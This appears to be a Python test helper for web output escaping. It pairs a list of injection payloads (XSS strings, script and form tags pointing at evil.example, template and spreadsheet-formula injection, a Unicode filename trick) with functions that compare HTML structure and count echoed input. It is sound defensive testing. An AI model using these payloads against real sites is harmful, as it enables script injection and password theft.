"""Texts that would be more than text where a page takes no care, and what tells whether they were."""

import json
import re
from typing import Any
from urllib.parse import urlsplit

import lxml.html

HARMLESS = "Plain words "
PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext></p><style><img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "x onclick=alert(1) ", "`onmouseover=alert(1)`",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=password>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<!--", "--><script>alert(1)</script>", "]]><b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;", "{{ 7*7 }}", "{% include 'layout.html' %}", "${7*7}#{7*7}", "%3Cscript%3E",
    "=cmd()|'x'!A1", "\u202e\u200bgnp.exe\u2066 ", "O'Neil & \"Søn\" <ApS> e\u0301\u0316\u0317 🎉 ",
]  # fmt: skip

_STRUCTURE = {"id", "class", "name", "type", "for", "method", "rel", "http-equiv", "aria-describedby", "role", "target"}
_ADDRESSES = {"href", "src", "action", "formaction"}


def elements(tree: lxml.html.HtmlElement) -> list[Any]:
    """Every element with its depth, the names of its attributes and what makes it what it is."""
    return [
        (
            len(list(element.iterancestors())),
            element.tag if isinstance(element.tag, str) else "comment",
            sorted(element.attrib),
            {name: _unnumbered(element.get(name)) for name in sorted(_STRUCTURE & set(element.attrib))},
            {name: led(element.get(name)) for name in sorted(_ADDRESSES & set(element.attrib))},
        )
        for element in tree.iter()
    ]


def led(address):
    """Where an address leads, but for what stands in its query."""
    parts = urlsplit(address)
    return parts.scheme, parts.netloc, re.sub("(/users/confirmation/).*", r"\1", _unnumbered(parts.path))


def _unnumbered(text):
    """Without what numbers the entries of the journal, which go on from world to world."""
    return re.sub(r"(request|change|mail|webhook)-[0-9a-f]+-[0-9a-f]{6}-[0-9]+", r"\1", text)


def count(tree, text):
    """How often a text can be read on a page, in its attributes, too."""
    values = [value for element in tree.iter() for name, value in element.attrib.items() if name not in _ADDRESSES]
    folded = " ".join(" ".join([*tree.itertext(), *values]).split())
    times = 0
    for written in sorted({text, json.dumps(text)[1:-1], json.dumps(text, ensure_ascii=False)[1:-1]}, key=len)[::-1]:
        _, *others = folded.split(" ".join(written.split()))  # bodies of webhooks have it as JSON has it
        times, folded = times + len(others), folded.replace(" ".join(written.split()), "")
    return times


def differing(found, expected):
    """The first element that is another, and how many there are."""
    if isinstance(found, str):
        return [] if found == expected else [(found, expected)]
    pairs = [(one, other) for one, other in zip(found, expected, strict=False) if one != other]
    return pairs[:1] or ([(len(found), len(expected))] if len(found) != len(expected) else [])
